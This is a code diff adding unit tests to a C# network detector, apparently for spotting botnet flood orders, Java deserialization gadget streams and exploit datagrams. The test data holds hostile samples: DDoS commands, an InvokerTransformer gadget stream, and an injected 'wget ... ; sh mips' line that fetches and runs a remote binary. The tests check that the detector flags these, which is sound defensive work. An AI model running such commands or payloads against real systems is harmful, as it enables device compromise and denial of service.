@@ -137,6 +137,32 @@ public class IndicatorPeekTests
     public void A_bot_in_a_channel_is_told_by_its_made_name_or_by_an_order(string text, bool fromResponder, bool found) =>
         Assert.Equal(found, Look(text, fromResponder, AppProtocol.Irc) is { Kind: IndicatorKind.RemoteAccess });
 
+    [Theory]
+    [InlineData("!* HTTPFLOOD 192.0.2.9 80 60\n", true)]
+    [InlineData(".udp 192.0.2.9 53 60\n", true)]
+    [InlineData("! scan finished, 192.0.2.9 is clean\n", false)]
+    [InlineData("!* SLEEP 60\n", false)]
+    public void An_order_needs_an_attack_and_an_address(string text, bool found) =>
+        Assert.Equal(found, Look(text, fromResponder: true) is { Kind: IndicatorKind.RemoteAccess, FromResponder: true });
+
+    [Fact]
+    public void A_serialised_object_that_runs_something_is_told_from_others()
+    {
+        byte[] Stream(string type) => [.. "JRMI"u8, 0, 2, (byte)'K', 0x50, 0xAC, 0xED, 0, 5, 0x73, 0x72, 0, (byte)type.Length, .. Encoding.ASCII.GetBytes(type), .. new byte[40]];
+        Assert.Equal("java-object", Look(Stream("org.apache.commons.collections4.functors.InvokerTransformer"))!.Name);
+        Assert.Null(Look(Stream("com.example.orders.Order")));
+    }
+
+    [Theory]
+    [InlineData("orf;cd /tmp; wget http://203.0.113.9/b/mips; sh mips", true)]
+    [InlineData("orf;cd /tmp; wget http://files.example/b/mips", false)]
+    [InlineData("<13>Nov 27 app: see wget http://203.0.113.9/notes", false)]
+    public void A_datagram_that_loads_from_a_bare_address_is_an_exploit(string text, bool found)
+    {
+        var state = new PeekState();
+        Assert.Equal(found, new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_000, 9034, Encoding.ASCII.GetBytes(text)) is Indicator { Name: "loader-command" });
+    }
+
     [Fact]
     public void A_channel_is_entered_by_a_password_too()
     {
